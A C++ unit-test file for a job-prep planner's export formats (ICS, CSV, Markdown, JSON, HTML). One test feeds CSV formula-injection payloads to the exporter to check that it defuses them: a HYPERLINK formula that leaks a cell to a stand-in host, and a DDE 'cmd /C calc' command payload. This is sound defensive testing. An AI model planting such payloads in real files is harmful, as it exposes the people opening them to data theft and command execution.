// SPDX-FileCopyrightText: 2026 JobPrep Planner contributors
// SPDX-License-Identifier: MIT
#include "core/export/csvexport.h"
#include "core/export/icsexport.h"
#include "core/export/icstimezone.h"
#include "core/export/planexport.h"
#include "core/export/planformat.h"
#include "readerprocess.h"
#include "tests/core/plan/plantestdata.h"

#include <QJsonArray>
#include <QSet>
#include <QTemporaryDir>
#include <gtest/gtest.h>

using namespace jobprep;
using namespace jobprep::test;

namespace {

const QDateTime kStamp(QDate(2026, 12, 2), QTime(8, 15, 30), Qt::UTC);

class PlanExport : public ::testing::Test
{
protected:
    QTemporaryDir dir;
    WeeklyPlan plan = sampleExportPlan();

    QString write(const QString &name, const QByteArray &data)
    {
        const QString path = dir.filePath(name);
        QString error;
        EXPECT_TRUE(saveFileAtomically(path, data, &error)) << error.toStdString();
        return path;
    }
    QString ics(const QString &name, const WeeklyPlan &p, const char *zone)
    {
        return write(name, planToIcs(p, QTimeZone(QByteArray(zone)), kStamp));
    }
};

} // namespace

TEST_F(PlanExport, SampleHasWhatTheReadersNeedToSee)
{
    // The sample must exercise splitting, habits and long Korean text, or the tests below prove little.
    EXPECT_GE(plan.blockCount(), 10);
    EXPECT_FALSE(plan.atRisk.isEmpty());
    EXPECT_FALSE(plan.nextWeek.isEmpty());
}

TEST_F(PlanExport, IcsIsReadBackByPythonIcalendarWithOneEventPerBlock)
{
    const QJsonObject r = readWithPython("read_ics.py", ics(QStringLiteral("seoul.ics"), plan, "Asia/Seoul"));
    EXPECT_EQ(r[QStringLiteral("version")].toString(), QStringLiteral("2.0"));
    EXPECT_FALSE(r[QStringLiteral("prodid")].toString().isEmpty());
    EXPECT_EQ(r[QStringLiteral("tzids")].toArray(), QJsonArray{QStringLiteral("Asia/Seoul")});
    const QJsonArray events = r[QStringLiteral("events")].toArray();
    const QList<PlanBlock> blocks = plan.allBlocks();
    ASSERT_EQ(events.size(), blocks.size());
    QSet<QString> uids;
    for (int i = 0; i < blocks.size(); ++i) {
        const QJsonObject e = events[i].toObject();
        const PlanBlock &b = blocks[i];
        EXPECT_EQ(e[QStringLiteral("summary")].toString(), b.title);
        EXPECT_EQ(e[QStringLiteral("tzid")].toString(), QStringLiteral("Asia/Seoul"));
        EXPECT_EQ(e[QStringLiteral("start")].toString(), b.start().toString(QStringLiteral("yyyy-MM-dd'T'HH:mm:ss")));
        EXPECT_EQ(e[QStringLiteral("end")].toString(), b.end().toString(QStringLiteral("yyyy-MM-dd'T'HH:mm:ss")));
        EXPECT_EQ(e[QStringLiteral("offsetByVtimezone")].toString(), QStringLiteral("+0900"));
        EXPECT_EQ(e[QStringLiteral("dtstamp")].toString(), QStringLiteral("20261202T081530Z"));
        if (!b.company.isEmpty()) {
            EXPECT_TRUE(e[QStringLiteral("description")].toString().contains(b.company)) << b.company.toStdString();
        }
        uids.insert(e[QStringLiteral("uid")].toString());
    }
    EXPECT_EQ(uids.size(), blocks.size()) << "every block has its own UID";
}

TEST_F(PlanExport, IcsRawBytesAreCrlfFoldedAt75OctetsWithoutSplittingUtf8)
{
    const QJsonObject raw =
        readWithPython("read_ics.py", ics(QStringLiteral("raw.ics"), plan, "Asia/Seoul"))[QStringLiteral("raw")].toObject();
    EXPECT_TRUE(raw[QStringLiteral("endsWithCrlf")].toBool());
    EXPECT_EQ(raw[QStringLiteral("bareLf")].toInt(), 0);
    EXPECT_EQ(raw[QStringLiteral("bareCr")].toInt(), 0);
    EXPECT_LE(raw[QStringLiteral("maxOctets")].toInt(), 75);
    EXPECT_GT(raw[QStringLiteral("foldedLines")].toInt(), 0) << "the long Korean title must have been folded";
    EXPECT_FALSE(raw[QStringLiteral("physicalLineSplitsUtf8")].toBool());
}

TEST_F(PlanExport, IcsUidsStayTheSameWhenTheWeekIsExportedAgain)
{
    const QJsonArray first =
        readWithPython("read_ics.py", ics(QStringLiteral("a.ics"), plan, "Asia/Seoul"))[QStringLiteral("events")].toArray();
    // A later export, a different time stamp, recomputed plan: same blocks, same UIDs.
    const QByteArray again = planToIcs(sampleExportPlan(), QTimeZone("Asia/Seoul"), kStamp.addDays(3));
    const QJsonArray second =
        readWithPython("read_ics.py", write(QStringLiteral("b.ics"), again))[QStringLiteral("events")].toArray();
    ASSERT_EQ(first.size(), second.size());
    for (int i = 0; i < first.size(); ++i)
        EXPECT_EQ(first[i].toObject()[QStringLiteral("uid")], second[i].toObject()[QStringLiteral("uid")]);
}

TEST_F(PlanExport, IcsCarriesDaylightSavingForAZoneThatHasIt)
{
    // GIVEN the week of 2026-10-19: Berlin leaves summer time on Sunday 2026-10-25
    PlanInput in = planInput({placed(1, QStringLiteral("주말 프로젝트"), Quadrant::Schedule, 40)}, QDate(2026, 10, 19));
    in.monday = QDate(2026, 10, 19);
    const WeeklyPlan week = WeeklyPlanner::plan(in);
    const QTimeZone berlin("Europe/Berlin");
    const QJsonObject r = readWithPython("read_ics.py", ics(QStringLiteral("berlin.ics"), week, "Europe/Berlin"));
    QSet<QString> kinds;
    for (const QJsonValue &o : r[QStringLiteral("observances")].toArray())
        kinds.insert(o.toObject()[QStringLiteral("kind")].toString());
    EXPECT_EQ(kinds, (QSet<QString>{QStringLiteral("STANDARD"), QStringLiteral("DAYLIGHT")}));
    const QJsonArray events = r[QStringLiteral("events")].toArray();
    ASSERT_EQ(events.size(), week.blockCount());
    QSet<QString> offsets;
    for (const QJsonValue &v : events) {
        const QJsonObject e = v.toObject();
        const QDateTime local = QDateTime::fromString(e[QStringLiteral("start")].toString(), Qt::ISODate);
        const QDateTime inBerlin(local.date(), local.time(), berlin);
        // THEN the file's own VTIMEZONE agrees with Qt's zone data for every event
        EXPECT_EQ(e[QStringLiteral("offsetByVtimezone")].toString(), icsUtcOffset(inBerlin.offsetFromUtc()));
        offsets.insert(e[QStringLiteral("offsetByVtimezone")].toString());
    }
    EXPECT_EQ(offsets, (QSet<QString>{QStringLiteral("+0200"), QStringLiteral("+0100")}));
}

TEST_F(PlanExport, IcsEscapesTextAndFoldsOnCharacterBoundaries)
{
    EXPECT_EQ(icsEscaped(QStringLiteral("a;b,c\\d\ne")), QStringLiteral("a\\;b\\,c\\\\d\\ne"));
    const QByteArray folded = icsFolded(QStringLiteral("SUMMARY:") + QString(40, QChar(0xD55C))); // 한 × 40
    for (const QByteArray &line : folded.split('\n')) {
        const QByteArray l = line.endsWith('\r') ? line.chopped(1) : line;
        EXPECT_LE(l.size(), 75);
        EXPECT_EQ(QString::fromUtf8(l).toUtf8(), l) << "a physical line must be valid UTF-8 on its own";
    }
}

TEST_F(PlanExport, CsvIsReadBackByPythonsCsvModule)
{
    const QJsonObject r = readWithPython("read_csv.py", write(QStringLiteral("plan.csv"), planToCsv(plan)));
    EXPECT_TRUE(r[QStringLiteral("bom")].toBool());
    EXPECT_EQ(r[QStringLiteral("bareLf")].toInt(), 0);
    EXPECT_EQ(r[QStringLiteral("crlfLines")].toInt(), plan.blockCount() + 1);
    const QStringList header{QStringLiteral("date"),    QStringLiteral("start"),   QStringLiteral("end"),
                             QStringLiteral("hours"),   QStringLiteral("task"),    QStringLiteral("kind"),
                             QStringLiteral("quadrant"), QStringLiteral("company"), QStringLiteral("posting")};
    EXPECT_EQ(r[QStringLiteral("header")].toVariant().toStringList(), header);
    const QJsonArray rows = r[QStringLiteral("rows")].toArray();
    const QList<PlanBlock> blocks = plan.allBlocks();
    ASSERT_EQ(rows.size(), blocks.size());
    for (int i = 0; i < rows.size(); ++i) {
        const QStringList row = rows[i].toVariant().toStringList();
        const PlanBlock &b = blocks[i];
        ASSERT_EQ(row.size(), 9);
        EXPECT_EQ(row[0], b.date.toString(Qt::ISODate));
        EXPECT_EQ(row[1], planformat::clockText(b.startMinute));
        EXPECT_DOUBLE_EQ(row[3].toDouble(), b.minutes / 60.0);
        EXPECT_EQ(row[4], b.title);
        EXPECT_EQ(row[5], toString(b.kind));
        EXPECT_EQ(row[7], b.company);
        EXPECT_EQ(row[8], b.posting);
    }
}

TEST_F(PlanExport, CsvCellsThatStartLikeAFormulaGetALeadingQuoteAndNothingElseChanges)
{
    // GIVEN titles, a company and a posting that a spreadsheet would run as formulas
    struct Case {
        QString title, company, posting;            // as entered
        QString taskCell, companyCell, postingCell; // what the CSV must hold
    };
    const auto u = [](const char *text) { return QString::fromUtf8(text); };
    const QList<Case> cases = {
        {u("=HYPERLINK(\"http://x.test/?\"&A1,\"열기\")"), u("=카카오"), u("@데이터 엔지니어"),
         u("'=HYPERLINK(\"http://x.test/?\"&A1,\"열기\")"), u("'=카카오"), u("'@데이터 엔지니어")},
        {u("+82 10 전화 면접 준비"), u("네이버"), {}, u("'+82 10 전화 면접 준비"), u("네이버"), {}},
        {u("-2.5"), {}, {}, u("'-2.5"), {}, {}},
        {u("-3h 복습: 추천 시스템"), {}, {}, u("'-3h 복습: 추천 시스템"), {}, {}},
        {u("@SUM(1+1)*cmd|' /C calc'!A0"), {}, {}, u("'@SUM(1+1)*cmd|' /C calc'!A0"), {}, {}},
        {u("\t=1+1 탭"), {}, {}, u("'\t=1+1 탭"), {}, {}},
        {u("\r=1+1"), {}, {}, u("'\r=1+1"), {}, {}},
        // Ordinary text, a formula sign inside, a quote or a space in front: exactly as entered.
        {u("Spark 스터디"), u("카카오"), u("데이터 엔지니어 (신입)"), u("Spark 스터디"), u("카카오"),
         u("데이터 엔지니어 (신입)")},
        {u("a=b+c-d@e"), {}, {}, u("a=b+c-d@e"), {}, {}},
        {u("'이미 따옴표"), {}, {}, u("'이미 따옴표"), {}, {}},
        {u(" =공백 뒤"), {}, {}, u(" =공백 뒤"), {}, {}},
    };
    QList<PlacedTask> tasks;
    for (int i = 0; i < cases.size(); ++i)
        tasks << placed(i + 1, cases[i].title, Quadrant::Schedule, 1, {}, Repeat::None, {},
                        cases[i].company);
    PlanInput in = planInput(tasks);
    for (int i = 0; i < cases.size(); ++i) {
        if (!cases[i].posting.isEmpty())
            in.postingTitles.insert(i + 1, cases[i].posting);
    }
    const WeeklyPlan week = WeeklyPlanner::plan(in);
    const QList<PlanBlock> blocks = week.allBlocks();
    ASSERT_EQ(blocks.size(), cases.size()) << "one block per task, or the test proves less";

    // WHEN the CSV is written and read back by Python's csv module
    const QJsonObject r =
        readWithPython("read_csv.py", write(QStringLiteral("formulas.csv"), planToCsv(week)));
    const QJsonArray rows = r[QStringLiteral("rows")].toArray();
    ASSERT_EQ(rows.size(), blocks.size());
    QSet<Id> seen;
    for (int i = 0; i < rows.size(); ++i) {
        const QStringList row = rows[i].toVariant().toStringList();
        const PlanBlock &b = blocks[i];
        const Case &c = cases[int(b.taskId) - 1];
        seen.insert(b.taskId);
        ASSERT_EQ(row.size(), 9);
        // THEN each cell is exactly what was entered, a ' in front where it started like a formula
        EXPECT_EQ(row[4].toStdString(), c.taskCell.toStdString()) << i;
        EXPECT_EQ(row[7].toStdString(), c.companyCell.toStdString()) << i;
        EXPECT_EQ(row[8].toStdString(), c.postingCell.toStdString()) << i;
        // and the cells the exporter makes itself are untouched
        EXPECT_EQ(row[0], b.date.toString(Qt::ISODate));
        EXPECT_EQ(row[1], planformat::clockText(b.startMinute));
        EXPECT_EQ(row[2], planformat::clockText(b.endMinute()));
        EXPECT_EQ(row[3], QStringLiteral("1"));
        EXPECT_EQ(row[5], QStringLiteral("study"));
        EXPECT_EQ(row[6], QStringLiteral("Schedule"));
    }
    EXPECT_EQ(seen.size(), cases.size());
}

TEST_F(PlanExport, MarkdownHasEveryBlockUnderItsDay)
{
    const QJsonObject r = readWithPython("read_md.py", write(QStringLiteral("plan.md"), exportPlan(plan, PlanFormat::Markdown, {}, kStamp)));
    const QJsonArray days = r[QStringLiteral("days")].toArray();
    ASSERT_EQ(days.size(), 7);
    for (int d = 0; d < 7; ++d) {
        const QJsonObject day = days[d].toObject();
        EXPECT_EQ(day[QStringLiteral("date")].toString(), plan.days[d].date.toString(Qt::ISODate));
        const QJsonArray items = day[QStringLiteral("items")].toArray();
        ASSERT_EQ(items.size(), plan.days[d].blocks.size()) << d;
        for (int i = 0; i < items.size(); ++i) {
            const QJsonObject item = items[i].toObject();
            const PlanBlock &b = plan.days[d].blocks[i];
            EXPECT_EQ(item[QStringLiteral("title")].toString(), b.title);
            EXPECT_EQ(item[QStringLiteral("start")].toString(), planformat::clockText(b.startMinute));
            EXPECT_EQ(item[QStringLiteral("end")].toString(), planformat::clockText(b.endMinute()));
            EXPECT_DOUBLE_EQ(item[QStringLiteral("hours")].toDouble(), b.minutes / 60.0);
            if (!b.company.isEmpty()) {
                EXPECT_EQ(item[QStringLiteral("where")].toArray().first().toString(), b.company);
            }
        }
    }
    const QJsonObject sections = r[QStringLiteral("sections")].toObject();
    EXPECT_EQ(sections[QStringLiteral("At risk")].toArray().size(), plan.atRisk.size());
    EXPECT_EQ(sections[QStringLiteral("Next week")].toArray().size(), plan.nextWeek.size());
    EXPECT_TRUE(sections[QStringLiteral("At risk")].toArray().first().toString().startsWith(plan.atRisk.first().title));
}

TEST_F(PlanExport, JsonAndHtmlCarryThePlan)
{
    const QJsonObject json = QJsonDocument::fromJson(exportPlan(plan, PlanFormat::Json, {}, kStamp)).object();
    EXPECT_EQ(json[QStringLiteral("format")].toString(), QStringLiteral("jobprep-plan"));
    EXPECT_EQ(json[QStringLiteral("week")].toString(), QStringLiteral("2026-W49"));
    int blocks = 0;
    for (const QJsonValue &d : json[QStringLiteral("days")].toArray())
        blocks += int(d.toObject()[QStringLiteral("blocks")].toArray().size());
    EXPECT_EQ(blocks, plan.blockCount());
    EXPECT_EQ(json[QStringLiteral("atRisk")].toArray().size(), plan.atRisk.size());

    const QString html = QString::fromUtf8(exportPlan(plan, PlanFormat::Html, {}, kStamp));
    EXPECT_TRUE(html.contains(QStringLiteral("SQL &lt;window&gt; 함수 &amp; 정리")));
    EXPECT_FALSE(html.contains(QStringLiteral("<window>")));
    EXPECT_FALSE(html.contains(QStringLiteral("src=")) || html.contains(QStringLiteral("href=")));
}

TEST_F(PlanExport, ACutListSaysHowManyMoreAndTheirHoursInEveryFormat)
{
    // 90 tasks overdue and 140 that cannot fit: each list shows its first 50 and counts the rest.
    QList<PlacedTask> tasks;
    for (int i = 1; i <= 230; ++i)
        tasks << placed(i, QStringLiteral("과제 %1").arg(i), Quadrant::Schedule, 1.5,
                        i <= 90 ? kToday.addDays(-2) : QDate());
    const WeeklyPlan cut = WeeklyPlanner::plan(planInput(tasks));
    ASSERT_EQ(cut.atRisk.size(), WeeklyPlan::kListed);
    ASSERT_EQ(cut.atRiskTotal, 90);
    ASSERT_EQ(cut.nextWeek.size(), WeeklyPlan::kListed);
    ASSERT_GT(cut.nextWeekTotal, WeeklyPlan::kListed);

    const QJsonObject r = readWithPython("read_md.py", write(QStringLiteral("cut.md"), exportPlan(cut, PlanFormat::Markdown, {}, kStamp)));
    const QJsonArray atRisk = r[QStringLiteral("sections")].toObject()[QStringLiteral("At risk")].toArray();
    ASSERT_EQ(atRisk.size(), WeeklyPlan::kListed + 1);
    EXPECT_EQ(atRisk.last().toString(), QStringLiteral("…and 40 more (135h missing in all)"));
    const QJsonArray next = r[QStringLiteral("sections")].toObject()[QStringLiteral("Next week")].toArray();
    ASSERT_EQ(next.size(), WeeklyPlan::kListed + 1);
    EXPECT_EQ(next.last().toString(), QStringLiteral("…and %1 more (%2 left in all)")
                                          .arg(cut.nextWeekTotal - WeeklyPlan::kListed)
                                          .arg(planformat::hoursText(cut.nextWeekMinutes)));

    const QJsonObject json = QJsonDocument::fromJson(exportPlan(cut, PlanFormat::Json, {}, kStamp)).object();
    EXPECT_EQ(json[QStringLiteral("atRiskTotal")].toInt(), 90);
    EXPECT_DOUBLE_EQ(json[QStringLiteral("atRiskMissingHours")].toDouble(), 135);
    EXPECT_EQ(json[QStringLiteral("nextWeekTotal")].toInt(), cut.nextWeekTotal);
    EXPECT_EQ(json[QStringLiteral("nextWeek")].toArray().size(), WeeklyPlan::kListed);
    const QString html = QString::fromUtf8(exportPlan(cut, PlanFormat::Html, {}, kStamp));
    EXPECT_TRUE(html.contains(QStringLiteral("<p class=\"more\">…and 40 more (135h missing in all)</p>")));
}

TEST_F(PlanExport, SaveLeavesTheOldFileWholeWhenItCannotWrite)
{
    QString error;
    EXPECT_FALSE(saveFileAtomically(dir.filePath(QStringLiteral("missing/dir/plan.md")), "x", &error));
    EXPECT_TRUE(error.contains(QStringLiteral("missing/dir/plan.md")));
}
